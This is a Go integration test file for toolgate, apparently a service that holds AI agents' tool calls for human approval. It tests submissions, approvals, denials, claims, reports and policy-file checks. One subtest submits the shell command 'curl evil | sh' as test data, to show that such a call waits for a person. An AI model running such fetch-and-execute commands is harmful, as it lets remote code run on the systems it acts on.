package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgate/toolgate/apiclient"
	tgclient "github.com/toolgate/toolgate/client"
	"github.com/toolgate/toolgate/policy"
	"github.com/toolgate/toolgate/workflows"
)

// TestAgentExecutedCalls: an agent puts its own tool behind toolgate over
// the HTTP API and the CLI: submit, wait for the decision, run, report.
func TestAgentExecutedCalls(t *testing.T) {
	d, as := newAPIDev(t)
	agent, alice, bob, root := as("agent-1"), as("alice"), as("bob"), as("root")

	submitAgentCall := func(t *testing.T, callID string, extra map[string]any) {
		t.Helper()
		body := map[string]any{"session": "agents", "tool": "deploy", "call_id": callID, "args": map[string]any{"env": "prod"}, "execution": "agent"}
		for k, v := range extra {
			body[k] = v
		}
		r := agent.do("POST", "/v1/calls", body)
		require.Equal(t, http.StatusAccepted, r.status, r.raw)
		require.Eventually(t, func() bool {
			return agent.do("GET", "/v1/calls/"+callID, nil).body["status"] == "pending"
		}, 20*time.Second, 20*time.Millisecond, "the default policy asks for a tool it does not know")
	}

	t.Run("a sticky decision says who runs the tool", func(t *testing.T) {
		// toolgate's shell, approved for the session ...
		submitWaiting(t, agent, "kinds", "k-server")
		r := bob.do("POST", "/v1/calls/k-server/decision", map[string]any{"decision": "approve_for_session"})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		require.Eventually(t, func() bool {
			sticky, _ := bob.do("GET", "/v1/sessions/kinds", nil).body["sticky"].([]any)
			return len(sticky) == 1
		}, 10*time.Second, 20*time.Millisecond)
		// ... does not cover the agent's own shell: that one asks.
		r = agent.do("POST", "/v1/calls?wait=1s", map[string]any{"session": "kinds", "tool": "shell", "call_id": "k-agent",
			"execution": "agent", "args": map[string]any{"command": "curl evil | sh"}})
		require.Equal(t, http.StatusAccepted, r.status, r.raw)
		assert.Equal(t, "pending", r.body["status"], "an agent-run shell waits for a person")

		// The agent's shell approved for the session does not cover
		// toolgate's once that decision is revoked.
		r = bob.do("POST", "/v1/calls/k-agent/decision", map[string]any{"decision": "approve_for_session"})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		var keys []string
		require.Eventually(t, func() bool {
			sticky, _ := bob.do("GET", "/v1/sessions/kinds", nil).body["sticky"].([]any)
			keys = keys[:0]
			for _, s := range sticky {
				keys = append(keys, s.(map[string]any)["key"].(string))
			}
			return len(keys) == 2
		}, 10*time.Second, 20*time.Millisecond)
		assert.ElementsMatch(t, []string{"shell", "agent~shell"}, keys)
		r = bob.do("DELETE", "/v1/sessions/kinds/sticky/shell", nil)
		require.Equal(t, http.StatusOK, r.status, r.raw)
		r = agent.do("POST", "/v1/calls?wait=1s", map[string]any{"session": "kinds", "tool": "shell", "call_id": "k-server-2",
			"args": map[string]any{"command": "echo hi"}})
		require.Equal(t, http.StatusAccepted, r.status, r.raw)
		assert.Equal(t, "pending", r.body["status"], "toolgate's shell asks again: the agent's decision does not cover it")
		r = bob.do("DELETE", "/v1/sessions/kinds/sticky/agent~shell", nil)
		assert.Equal(t, http.StatusOK, r.status, "the agent's decision is revoked by its key: %s", r.raw)
	})

	t.Run("approved with edits, then reported", func(t *testing.T) {
		submitAgentCall(t, "ag1", nil)
		r := agent.do("POST", "/v1/calls/ag1/report", map[string]any{"output": "too early"})
		assert.Equal(t, http.StatusConflict, r.status, r.raw)
		assert.Contains(t, r.errorMessage(), "is not approved (status pending)")

		// The agent's long poll wakes on the decision (a 5m wait would
		// outlast the test client's 30 s).
		waited := make(chan apiResponse, 1)
		go func() { waited <- agent.do("GET", "/v1/calls/ag1?wait=5m", nil) }()
		r = alice.do("POST", "/v1/calls/ag1/decision", map[string]any{"decision": "approve", "args": map[string]any{"env": "staging"}})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		r = <-waited
		require.Equal(t, http.StatusAccepted, r.status, r.raw)
		assert.Equal(t, "approved", r.body["status"])
		assert.Equal(t, map[string]any{"env": "staging"}, r.body["args"], "the arguments to run are the approver's")
		assert.Equal(t, "alice", r.body["decided_by"])
		assert.Equal(t, "agent", r.body["execution"])

		r = root.do("POST", "/v1/calls/ag1/report", map[string]any{"output": map[string]any{"deployed": "staging"}})
		assert.Equal(t, http.StatusForbidden, r.status, "only the requesting agent reports: %s", r.raw)
		r = agent.do("POST", "/v1/calls/ag1/report", map[string]any{"output": map[string]any{"deployed": "staging"}, "error": "x"})
		assert.Equal(t, http.StatusBadRequest, r.status, r.raw)

		r = agent.do("POST", "/v1/calls/ag1/report", map[string]any{"output": map[string]any{"deployed": "staging"}})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "ok", r.body["status"])
		assert.Equal(t, "agent", r.body["execution"])
		assert.Equal(t, map[string]any{"deployed": "staging"}, r.body["output"])
		assert.Equal(t, map[string]any{"env": "prod"}, r.body["original_args"])
		assert.Equal(t, `You ran deploy and toolgate recorded its output, approved by alice; alice changed the arguments to {"env":"staging"}.`, r.body["model_message"])

		r = agent.do("POST", "/v1/calls/ag1/report", map[string]any{"output": "again"})
		assert.Equal(t, http.StatusConflict, r.status, r.raw)
		assert.Contains(t, r.errorMessage(), "already ended (status ok): a call is reported once")
	})

	t.Run("a claim in the submission of a call that asks takes nothing until it is approved", func(t *testing.T) {
		r := agent.do("POST", "/v1/calls", map[string]any{"session": "agents", "tool": "deploy", "call_id": "ag-claim", "args": map[string]any{"env": "prod"},
			"execution": "agent", "claim": map[string]any{"run": "toolu_c"}})
		require.Equal(t, http.StatusAccepted, r.status, r.raw)
		assert.Equal(t, "pending", r.body["status"], "answered as soon as it asks")
		assert.Nil(t, r.body["claimed"])
		r = alice.do("POST", "/v1/calls/ag-claim/decision", map[string]any{"decision": "approve"})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		r = agent.do("POST", "/v1/calls/ag-claim/claim", map[string]any{"run": "toolu_c"})
		require.Equal(t, http.StatusNoContent, r.status, "claimed once approved: %s", r.raw)
		r = agent.do("POST", "/v1/calls/ag-claim/report", map[string]any{"output": "deployed"})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "ok", r.body["status"])
	})

	t.Run("another agent's call is answered as an unknown one", func(t *testing.T) {
		other := as("agent-2")
		// unknownAlike asserts that agent-2's claim and report of ag7 are
		// answered as those of a call that does not exist.
		unknownAlike := func(t *testing.T, when string) {
			t.Helper()
			for _, req := range []struct {
				verb string
				body map[string]any
			}{
				{"claim", map[string]any{"run": "toolu_x"}},
				{"claim", map[string]any{"run": "toolu_x", "no_report": true}},
				{"report", map[string]any{"output": map[string]any{"deployed": "prod"}}},
				{"report", map[string]any{"error": "failed"}},
			} {
				theirs := other.do("POST", "/v1/calls/ag7/"+req.verb, req.body)
				none := other.do("POST", "/v1/calls/no-such-call/"+req.verb, req.body)
				assert.Equal(t, http.StatusNotFound, none.status, "%s %s: %s", when, req.verb, none.raw)
				assert.Equal(t, none.status, theirs.status, "%s %s: %s", when, req.verb, theirs.raw)
				assert.Equal(t, strings.ReplaceAll(none.raw, "no-such-call", "ag7"), theirs.raw, "%s %s: the same body", when, req.verb)
				assert.Equal(t, `unknown call "ag7"`, theirs.errorMessage(), when)
			}
		}
		submitAgentCall(t, "ag7", nil)
		unknownAlike(t, "waiting")
		require.Equal(t, http.StatusOK, bob.do("POST", "/v1/calls/ag7/decision", map[string]any{"decision": "approve"}).status)
		require.Equal(t, "approved", agent.do("GET", "/v1/calls/ag7?wait=30s", nil).body["status"])
		unknownAlike(t, "approved")
		r := agent.do("POST", "/v1/calls/ag7/claim", map[string]any{"run": "toolu_1"})
		require.Equal(t, http.StatusNoContent, r.status, "the other agent's tries took nothing: %s", r.raw)
		unknownAlike(t, "claimed")
		r = agent.do("POST", "/v1/calls/ag7/report", map[string]any{"output": map[string]any{"deployed": "prod"}, "run": "toolu_1"})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "ok", r.body["status"])
		unknownAlike(t, "ended")
		r = agent.do("POST", "/v1/calls/ag7/claim", map[string]any{"run": "toolu_2"})
		assert.Equal(t, http.StatusConflict, r.status, "its own agent hears why: %s", r.raw)
	})

	t.Run("a reported error ends the call with it", func(t *testing.T) {
		submitAgentCall(t, "ag2", nil)
		require.Equal(t, http.StatusOK, bob.do("POST", "/v1/calls/ag2/decision", map[string]any{"decision": "approve"}).status)
		r := agent.do("GET", "/v1/calls/ag2?wait=5m", nil)
		require.Equal(t, "approved", r.body["status"], r.raw)
		r = agent.do("POST", "/v1/calls/ag2/report", map[string]any{"error": "kubectl: connection refused"})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "error", r.body["status"])
		assert.Equal(t, "the agent reported that the tool failed: kubectl: connection refused", r.body["reason"])
	})

	t.Run("report false ends the call at the decision", func(t *testing.T) {
		submitAgentCall(t, "ag3", map[string]any{"report": false})
		require.Equal(t, http.StatusOK, bob.do("POST", "/v1/calls/ag3/decision", map[string]any{"decision": "approve"}).status)
		r := agent.do("GET", "/v1/calls/ag3?wait=5m", nil)
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "ok", r.body["status"])
		assert.Equal(t, "deploy is approved: run it yourself with the approved arguments, approved by bob.", r.body["model_message"])
		r = agent.do("POST", "/v1/calls/ag3/report", map[string]any{"output": 1})
		assert.Equal(t, http.StatusConflict, r.status, r.raw)
	})

	t.Run("a denial's reason reaches the agent", func(t *testing.T) {
		submitAgentCall(t, "ag4", nil)
		r := bob.do("POST", "/v1/calls/ag4/decision", map[string]any{"decision": "deny", "reason": "prod is frozen until Monday"})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		r = agent.do("GET", "/v1/calls/ag4?wait=5m", nil)
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "denied", r.body["status"])
		assert.Equal(t, "prod is frozen until Monday", r.body["reason"])
		assert.Equal(t, "deploy was not run: denied by bob: prod is frozen until Monday.", r.body["model_message"])
	})

	t.Run("bad submissions name the field", func(t *testing.T) {
		r := agent.do("POST", "/v1/calls", map[string]any{"session": "agents", "tool": "deploy", "execution": "worker"})
		assert.Equal(t, http.StatusBadRequest, r.status, r.raw)
		assert.Contains(t, r.errorMessage(), "execution must be")
		r = agent.do("POST", "/v1/calls", map[string]any{"session": "agents", "tool": "echo", "report": false})
		assert.Equal(t, http.StatusBadRequest, r.status, r.raw)
		assert.Contains(t, r.errorMessage(), "report can be false only")
		r = agent.do("POST", "/v1/calls/ag1/report", map[string]any{})
		assert.Equal(t, http.StatusBadRequest, r.status, r.raw)
	})

	t.Run("the Go API client is an Agent", func(t *testing.T) {
		var c tgclient.Agent = apiclient.New("http://"+d.httpAddr, "token-agent-1")
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		id, err := c.Submit(ctx, tgclient.CallRequest{CallID: "ag5", Session: "agents", Tool: "migrate", Args: json.RawMessage(`{"step":3}`), Execution: policy.ExecutionAgent})
		require.NoError(t, err)
		short, cancelShort := context.WithTimeout(ctx, 300*time.Millisecond)
		_, err = c.WaitDecided(short, id)
		cancelShort()
		require.ErrorIs(t, err, context.DeadlineExceeded, "nobody decided yet")
		require.Eventually(t, func() bool {
			return bob.do("POST", "/v1/calls/ag5/decision", map[string]any{"decision": "approve"}).status == http.StatusOK
		}, 20*time.Second, 50*time.Millisecond)
		st, err := c.WaitDecided(ctx, id)
		require.NoError(t, err)
		require.NotNil(t, st.State)
		assert.Equal(t, workflows.StatusApproved, st.State.Status)
		assert.Equal(t, "bob", st.State.Decision.DecidedBy)
		err = c.Report(ctx, id, "", tgclient.Report{Output: json.RawMessage(`{"migrated":3}`)})
		require.NoError(t, err)
		res, err := c.Wait(ctx, id)
		require.NoError(t, err)
		assert.Equal(t, workflows.StatusOK, res.Status)
		assert.JSONEq(t, `{"migrated":3}`, string(res.Output))
		var refused *tgclient.RefusedError
		require.ErrorAs(t, c.Report(ctx, id, "", tgclient.Report{Output: json.RawMessage(`1`)}), &refused)
		assert.Equal(t, workflows.ErrTypeNotWaiting, refused.Type, "the same error type as over Temporal")
	})

	t.Run("the CLI runs the same flow", func(t *testing.T) {
		r := d.cli("call", "--session", "cli-agents", "--id", "ag6", "--agent-runs", "--wait", "200ms", "backup", `{"db":"orders"}`)
		require.Equal(t, 5, r.code, "still waiting: %s %s", r.stdout, r.stderr)
		d.waitPending(d.client(), "ag6")
		r = d.cli("approve", "ag6", "--by", "carol")
		require.Equal(t, 0, r.code, r.stdout+r.stderr)
		r = d.cli("status", "ag6", "--wait", "30s", "--json")
		require.Equal(t, 0, r.code, "approved means: run it now\n%s %s", r.stdout, r.stderr)
		var w map[string]any
		require.NoError(t, json.Unmarshal([]byte(r.stdout), &w), r.stdout)
		assert.Equal(t, "approved", w["status"])
		assert.Equal(t, map[string]any{"db": "orders"}, w["args"])

		r = d.cli("report", "ag6", "--requester", "someone-else", "--output", `{"bytes":1024}`)
		assert.Equal(t, 1, r.code, "another requester is refused: %s %s", r.stdout, r.stderr)
		r = d.cli("report", "ag6", "--output", `{"bytes":1024}`, "--json")
		require.Equal(t, 0, r.code, r.stdout+r.stderr)
		var res map[string]any
		require.NoError(t, json.Unmarshal([]byte(r.stdout), &res), r.stdout)
		assert.Equal(t, "ok", res["status"])
		assert.Equal(t, map[string]any{"bytes": float64(1024)}, res["output"])
	})
}

const agentPolicy = `
default: ask
tools:
  deploy:
    description: Deploy a service
    schema: {type: object, required: [env], properties: {env: {type: string, enum: [staging, prod]}}}
rules:
  - {name: quick-report, tool: deploy, action: allow, report_timeout: 2s}
`

// TestAgentExecutedCallsUnderAPolicyFile: the file's schema refuses bad
// arguments before any rule, and an approved call without a report within
// its rule's report_timeout ends unknown.
func TestAgentExecutedCallsUnderAPolicyFile(t *testing.T) {
	policyFile := filepath.Join(t.TempDir(), "policy.yaml")
	require.NoError(t, os.WriteFile(policyFile, []byte(agentPolicy), 0o644))
	d := &devEnv{t: t, dataDir: t.TempDir(), port: freePort(t)}
	d.httpAddr = fmt.Sprintf("127.0.0.1:%d", freePort(t))
	d.dev = start(t, devReady, "dev", "--data-dir", d.dataDir, "--temporal-port", fmt.Sprint(d.port),
		"--http", d.httpAddr, "--tokens", writeTokensFile(t, t.TempDir()), "--policy", policyFile)
	agent := apiClient{t: t, base: "http://" + d.httpAddr, token: "token-agent-1"}

	r := agent.do("POST", "/v1/calls?wait=30s", map[string]any{"session": "pf", "tool": "deploy", "args": map[string]any{"env": "qa"}, "execution": "agent"})
	require.Equal(t, http.StatusOK, r.status, r.raw)
	assert.Equal(t, "error", r.body["status"])
	assert.Equal(t, true, r.body["invalid_request"])
	assert.Contains(t, r.body["reason"], "/env", "the reason names the field")

	r = agent.do("POST", "/v1/calls?wait=30s", map[string]any{"session": "pf", "tool": "deploy", "call_id": "pf2", "args": map[string]any{"env": "staging"}, "execution": "agent"})
	require.Equal(t, http.StatusAccepted, r.status, r.raw)
	assert.Equal(t, "approved", r.body["status"], "allowed at once: the agent may run it")
	// A decided call's ?wait= answers at once: poll for the end.
	require.Eventually(t, func() bool {
		r = agent.do("GET", "/v1/calls/pf2", nil)
		return r.status == http.StatusOK
	}, 30*time.Second, 100*time.Millisecond)
	assert.Equal(t, "unknown", r.body["status"])
	assert.Equal(t, "the agent did not say whether it ran the tool: no report within 2s", r.body["reason"])
	r = agent.do("POST", "/v1/calls/pf2/report", map[string]any{"output": "late"})
	assert.Equal(t, http.StatusConflict, r.status, "too late: %s", r.raw)

	t.Run("a claim in the submission: submitted, decided and claimed in one request", func(t *testing.T) {
		r := agent.do("POST", "/v1/calls", map[string]any{"session": "pf", "tool": "deploy", "call_id": "pf3", "args": map[string]any{"env": "staging"},
			"execution": "agent", "claim": map[string]any{"run": "toolu_1"}})
		require.Equal(t, http.StatusAccepted, r.status, r.raw)
		assert.Equal(t, "approved", r.body["status"])
		assert.Equal(t, true, r.body["claimed"], "the approval is this run's")
		r = agent.do("POST", "/v1/calls/pf3/claim", map[string]any{"run": "toolu_2"})
		assert.Equal(t, http.StatusConflict, r.status, r.raw)
		assert.Equal(t, "already_claimed", r.errorCode(), "another run cannot take it")
		r = agent.do("POST", "/v1/calls/pf3/report", map[string]any{"output": map[string]any{"deployed": "staging"}})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "ok", r.body["status"])
		assert.Equal(t, "toolu_1", r.body["claim"].(map[string]any)["run"])

		// Resubmitted, the same call answers as it stands; the claim is
		// not taken again (it was this run's already).
		r = agent.do("POST", "/v1/calls", map[string]any{"session": "pf", "tool": "deploy", "call_id": "pf3", "args": map[string]any{"env": "staging"},
			"execution": "agent", "claim": map[string]any{"run": "toolu_1"}})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "ok", r.body["status"])

		// One that ends at its claim.
		r = agent.do("POST", "/v1/calls", map[string]any{"session": "pf", "tool": "deploy", "call_id": "pf4", "args": map[string]any{"env": "staging"},
			"execution": "agent", "claim": map[string]any{"run": "toolu_3", "no_report": true}})
		require.Equal(t, http.StatusAccepted, r.status, r.raw)
		assert.Equal(t, true, r.body["claimed"])
		r = agent.do("GET", "/v1/calls/pf4?wait=30s", nil)
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "ok", r.body["status"])
		assert.Contains(t, r.body["note"], "does not report how it went")

		// Refused by the schema: the Result, nothing to claim.
		r = agent.do("POST", "/v1/calls", map[string]any{"session": "pf", "tool": "deploy", "args": map[string]any{"env": "qa"},
			"execution": "agent", "claim": map[string]any{"run": "toolu_4"}})
		require.Equal(t, http.StatusOK, r.status, r.raw)
		assert.Equal(t, "error", r.body["status"])
		assert.Nil(t, r.body["claimed"])

		for _, bad := range []struct {
			body map[string]any
			want string
		}{
			{map[string]any{"session": "pf", "tool": "echo", "args": map[string]any{}, "claim": map[string]any{"run": "toolu_5"}}, `claim needs execution "agent"`},
			{map[string]any{"session": "pf", "tool": "deploy", "args": map[string]any{"env": "staging"}, "execution": "agent", "claim": map[string]any{}}, "run must name the run"},
		} {
			r = agent.do("POST", "/v1/calls", bad.body)
			assert.Equal(t, http.StatusBadRequest, r.status, r.raw)
			assert.Contains(t, r.errorMessage(), bad.want)
		}
	})
}
